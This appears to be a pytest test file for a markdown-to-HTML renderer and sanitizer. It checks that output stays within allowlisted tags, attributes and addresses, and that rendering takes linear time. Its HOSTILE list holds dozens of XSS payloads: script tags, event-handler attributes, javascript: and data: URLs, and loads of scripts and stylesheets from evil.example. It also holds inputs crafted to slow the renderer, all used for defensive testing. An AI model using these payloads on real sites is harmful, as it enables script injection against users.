"""The one door from what people write to HTML: total, bounded, and without a way in for scripts."""

import re
from cProfile import Profile
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from foundation.text.markdown import (
    Target,
    Things,
    Video,
    clean_html,
    contents_of,
    read_markdown,
    render_markdown,
    render_plain,
)
from foundation.text.tests.test_names import ANY_TEXT
from tests.tools.pages import elements

TAGS = set(
    "a abbr blockquote br code del details div em figcaption figure h3 h4 h5 h6 hr img input kbd"  # noqa: SIM905 -- reads better
    " label li ol p pre s section span strong sub summary sup table tbody td th thead tr ul".split()
)
ATTRIBUTES = {
    "alt",
    "checked",
    "class",
    "aria-label",
    "data-seconds",
    "decoding",
    "disabled",
    "height",
    "href",
    "id",
    "loading",
    "open",
    "rel",
    "src",
    "start",
    "tabindex",
    "title",
    "type",
    "width",
}
IMAGE = f"/images/{'0a' * 16}-1600x900.webp"
SAFE_ADDRESS = re.compile(r"(https?:|mailto:|#note-|[^:#]*$)", re.IGNORECASE)
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onload=alert(1)>",
    "</p></div></article><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](<javascript:alert(1)>)",
    '[x](/a "onmouseover=alert(1)")',
    "[x](/a 'x\" onmouseover=\"alert(1)')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x" onerror="alert(1)](/a.png)',
    "![<img src=x onerror=alert(1)>](http://evil.example/x.png)",
    "![x](http://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    f'![x" onload="alert(1)]({IMAGE} \'"><script>alert(1)</script>\')',
    f"![<b>[12:34](javascript:alert(1))]({IMAGE})",
    f"![x](https://evil.example{IMAGE})",
    f"![x](/{IMAGE})",
    f"[![]({IMAGE})](javascript:alert(1))",
    f"<img src={IMAGE} onload=alert(1) width=99999 style=position:fixed>",
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    "``` js onload=alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|-|\n| [x](javascript:alert(1)) |",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
    "- [ ] <input onfocus=alert(1) autofocus>",
    'http://x.example/"onmouseover=alert(1)',
    "http://x.example/<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e<script>alert(1)</script>",
    "<\0script>alert(1)</script>",
    "<a id=content name=body class='evil' href='#x'>",
    "<a class=timestamp data-seconds=9 href='#x'>",
    "<span class='c-k evil' title='x' onclick=alert(1)>x</span>",
    "[[<script>alert(1)</script>|<img src=x onerror=alert(1)>]]",
    '[[x|"><script>alert(1)</script>]]',
    '# "><script>alert(1)</script>',
    "# <b id=x>[12:34]",
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
]
# Everything of our own at once, and what it leads to as hostile as can be.
OURS = {
    "name": "n",
    "video": Video("file", "https://v.example/talk.mp4"),
    "things": Things({"x": Target("javascript:alert(1)", "<b>x</b>")}, show_unknown=True),
}
OWN_SIGNS = ["[[", "]]", "[[x]]", "[[x|", "[12:34]", "[1:02:03]", "# ", "- [ ] ", "```python\n"]


class _Reader(HTMLParser):
    """Collects the elements and attributes of a piece of HTML, as a browser would see them."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes = set(), set()
        self.addresses, self.sources, self.ids = [], [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add(name)
            kept = {"href": self.addresses, "src": self.sources, "id": self.ids}.get(name, [])
            kept.append(value)


def _assert_harmless(html):
    read = _Reader(html)
    assert read.tags <= TAGS
    assert read.attributes <= ATTRIBUTES
    assert [address for address in read.addresses if not SAFE_ADDRESS.match(address)] == []
    assert [source for source in read.sources if source != IMAGE] == []
    assert [name for name in read.ids if not name.startswith("note-")] == []
    assert "<!--" not in html


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_is_harmless(source):
    _assert_harmless(render_markdown(source, **OURS))
    _assert_harmless(render_markdown(f"# {source}\n\n> - {source}\n\n*{source}*"))


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_harmless(html):
    _assert_harmless(clean_html(html))
    assert "data-seconds" not in clean_html(html)


@pytest.mark.parametrize("text", HOSTILE)
def test_plain_text_stays_text(text):
    assert _Reader(render_plain(text)).tags <= {"p", "br"}


@given(ANY_TEXT)
def test_any_text_gives_harmless_html(text):
    _assert_harmless(render_markdown(text, **OURS))


PIECES = st.sampled_from([*HOSTILE, *OWN_SIGNS, "*", "[", "](", "`", "\n", "\n\n", "> ", "- ", "|"])


@given(st.lists(PIECES, max_size=8))
def test_hostile_pieces_put_together_are_harmless(pieces):
    _assert_harmless(render_markdown("".join(pieces), **OURS))


@given(st.lists(PIECES | ANY_TEXT, max_size=8))
def test_reading_is_total_and_says_the_same_each_time(pieces):
    source = "".join(pieces)
    first, second = (read_markdown(source, name="n", video=OURS["video"]) for _ in range(2))

    assert (first.names, first.tasks, first.html()) == (second.names, second.tasks, second.html())
    assert all(task.text == " ".join(task.text.split()) for task in first.tasks)
    contents_of(first.html())


@given(st.lists(PIECES, max_size=8))
def test_no_id_is_there_twice(pieces):
    read = _Reader(render_markdown("".join(pieces), **OURS))

    assert len(read.ids) == len(set(read.ids))


@pytest.mark.parametrize(
    ("source", "html"),
    [
        pytest.param("*a* **b**", "<p><em>a</em> <strong>b</strong></p>", id="emphasis"),
        pytest.param("~~a~~", "<p><s>a</s></p>", id="strikethrough"),
        pytest.param(
            "# A\n### B\n# C",
            '<h3 id="note-h-a">A</h3>\n<h4 id="note-h-b">B</h4>\n<h3 id="note-h-c">C</h3>',
            id="headings",
        ),
        pytest.param(
            "[a](https://x.example/)",
            '<p><a href="https://x.example/" rel="noopener nofollow">a</a></p>',
            id="link",
        ),
        pytest.param(
            "https://x.example/a_b_c",
            '<p><a href="https://x.example/a_b_c" rel="noopener nofollow">'
            "https://x.example/a_b_c</a></p>",
            id="bare-link",
        ),
        pytest.param(
            "![plan](https://x.example/p.png)",
            '<p><a href="https://x.example/p.png" rel="noopener nofollow">plan</a></p>',
            id="foreign-image-is-a-link",
        ),
        pytest.param(
            "|a|b|\n|:-:|-:|\n|1|2|",
            '<div class="table-box" tabindex="0"><table>\n'
            '<thead>\n<tr>\n<th class="align-center">a</th>\n'
            '<th class="align-right">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n'
            '<td class="align-center">1</td>\n'
            '<td class="align-right">2</td>\n</tr>\n</tbody>\n</table></div>',
            id="table-aligned-by-class",
        ),
        pytest.param(
            "```fortran\nx < 1\n```",
            '<pre tabindex="0"><code class="language-fortran">x &lt; 1\n</code></pre>',
            id="code",
        ),
        pytest.param(
            "- [ ] a\n- [x] *b*\n- c",
            '<ul class="contains-task-list">\n<li class="task-list-item"><label>'
            '<input class="task-list-item-checkbox" disabled="disabled" type="checkbox"> a'
            '</label></li>\n<li class="task-list-item"><label>'
            '<input class="task-list-item-checkbox" checked="checked" disabled="disabled" '
            'type="checkbox"> <em>b</em></label></li>\n<li>c</li>\n</ul>',
            id="tasks",
        ),
        pytest.param("- \\[x] a", "<ul>\n<li>[x] a</li>\n</ul>", id="escaped-task-is-text"),
        pytest.param(
            "- [x] a\n\n[x]: /b",
            '<ul>\n<li><a href="/b" rel="noopener nofollow">x</a> a</li>\n</ul>',
            id="link-is-no-task",
        ),
        pytest.param("[ ] a", "<p>[ ] a</p>", id="task-outside-a-list-is-text"),
        pytest.param("<b>a</b>", "<p>&lt;b&gt;a&lt;/b&gt;</p>", id="html-is-text"),
        pytest.param("\"a\" --- 'b'", "<p>“a” --- ‘b’</p>", id="typography"),
        pytest.param("日本語 *強調*", "<p>日本語 <em>強調</em></p>", id="japanese"),
        pytest.param("", "", id="empty"),
    ],
)
def test_markdown_becomes_html(source, html):
    assert render_markdown(source).strip() == html


def test_nested_lists_mark_only_the_list_with_tasks():
    html = render_markdown("- a\n  - [ ] b\n- c\n")

    assert (html.count("contains-task-list"), html.count("<ul>")) == (1, 1)


def test_tasks_are_collected_as_plain_text():
    source = "- [ ] try *pg_trgm* & `x`\n  for [[y|Y]] at [1:00]\n  - [X] [z](/z)\n- a\n- [ ] "

    tasks = read_markdown(source, video=OURS["video"]).tasks

    expected = [("try pg_trgm & x for Y at 1:00", False), ("z", True)]
    assert [(task.text, task.is_done) for task in tasks] == expected


def test_footnotes_lead_there_and_back():
    html = render_markdown("a[^n]\n\n[^n]: b")

    read = _Reader(html)
    leads = [address.removeprefix("#") for address in read.addresses if address.startswith("#")]
    assert sorted(leads) == sorted(read.ids)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a\nb", "<p>a<br>b</p>"),
        ("a\n\n\n\nb", "<p>a</p><p>b</p>"),
        ("<b>&", "<p>&lt;b&gt;&amp;</p>"),
        ("", ""),
    ],
)
def test_plain_text_becomes_paragraphs(text, html):
    assert render_plain(text) == html


def _steps(source):
    """Return how many calls and returns the rendering takes: the same on any machine, any day."""
    with Profile() as profile:
        contents_of(render_markdown(source, **OURS))
    return 2 * sum(function.callcount for function in profile.getstats())


def _assert_linear(source_of, length):
    """Four times the text takes about four times the steps; quadratic work would be sixteen."""
    quarter, whole = _steps(source_of(length // 4)), _steps(source_of(length))
    assert whole < 5 * quarter + 20_000


@pytest.mark.parametrize(
    "sign", [*"ab 1\n\t!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~é漢\u0300\u200d"], ids=ascii
)
def test_one_sign_repeated_takes_linear_work(sign):
    _assert_linear(lambda length: sign * length, 10_000)


@pytest.mark.linear
@pytest.mark.parametrize(
    "piece",
    [
        "[a](",
        "![",
        "[a][",
        "*a **b ",
        "**a*",
        "http://a",
        "://",
        "://  ",
        "http://a.b ",
        "www.a.b ",
        "a@b.c ",
        "<!--",
        "&amp;",
        "> ",
        ">a\n\n",
        "- ",
        "- [ ] a\n",
        "1. a\n",
        "|a|b|\n|-|-|\n",
        "[^1]",
        "[^1]: x\n",
        "^[a] ",
        "[a]: b\n",
        "`a ",
        "\"'",
        "[[",
        "[[a|",
        "[[a]]",
        "[[a|b]] ",
        "[12:",
        "[12:34]",
        "# a\n",
        "- [x] [[a]] [1:00]\n",
        "```python\nx\n```\n",
        "```SELECT 1\n",
        "a\n----\n",
        " - a\n",
        "- a\n - b\n",
        "1. a\n  - b\n",
        "    - a\n",
        "> - a\n>  - b\n",
        ">> a\n",
        "- - ",
        "#Ab\n",
        "<!-- a --> ",
        "`<!-- a --> ",
        "- <!-- a\n",
        "<kbd>",
        "<kbd>a</kbd>",
        "<details>\n",
        "</details>\n",
        "<details><summary>a</summary>\n",
        "<br a=b c='d' ",
        "https://a)",
        "www.a.b(",
        "https://a@b",
        "https://a:b@c",
        "https://a:99999",
        "[](/a) ",
        "|a|b|\n",
        "[^1]: a[^2]\n\n    ",
        "[a]: /b 'c'\n",
        "[1:00]: a\n",
    ],
    ids=ascii,
)
def test_many_pieces_take_linear_work(piece):
    _assert_linear(lambda length: piece * (length // len(piece)), 10_000)


@pytest.mark.linear
@pytest.mark.parametrize(
    "source",
    [
        pytest.param("http://a" * 45 + "b" * 190_000, id="many-links-in-a-long-word"),
        pytest.param("://  " * 60 + "b " * 90_000, id="many-schemes-in-a-long-line"),
        pytest.param("".join("`" * n + "a" for n in range(1, 440)), id="growing-code-marks"),
        pytest.param("![" * 15_000, id="images-within-images"),
        pytest.param("[![" * 10_000, id="images-within-links"),
        pytest.param("[a]: /b '" + "![" * 15_000 + "'", id="images-within-a-definition"),
        pytest.param("'\"a" * 600 + "x" * 190_000, id="quote-marks"),
        pytest.param("|" + "a|" * 5000 + "\n|" + "-|" * 5000 + "\n", id="wide-table"),
    ],
)
def test_texts_made_to_be_slow_are_not(source):
    assert _steps(source) < 100 * len(source)


def test_an_ordinary_long_text_keeps_its_bare_links():
    source = "See https://x.example/page for more on this, and read on.\n\n" * 2_000

    assert render_markdown(source).count("<a ") == 2_000


def test_footnotes_and_the_ways_back_have_names():
    html = render_markdown("A[^a] and again[^a], B[^b].\n\n[^a]: One\n\n[^b]: Two")

    [notes] = elements(html, "ol", class_="footnotes-list")
    back = [link["aria-label"] for link in elements(html, "a", class_="footnote-backref")]
    assert notes["aria-label"] == "Footnotes"
    assert back == ["Back to reference 1", "Back to reference 1:1", "Back to reference 2"]


def test_no_text_of_a_writer_names_a_footnote():
    html = render_markdown('A[^"><b>].\n\n[^"><b>]: One')

    assert [link["aria-label"] for link in elements(html, "a", class_="footnote-backref")] == [
        "Back to reference 1"
    ]
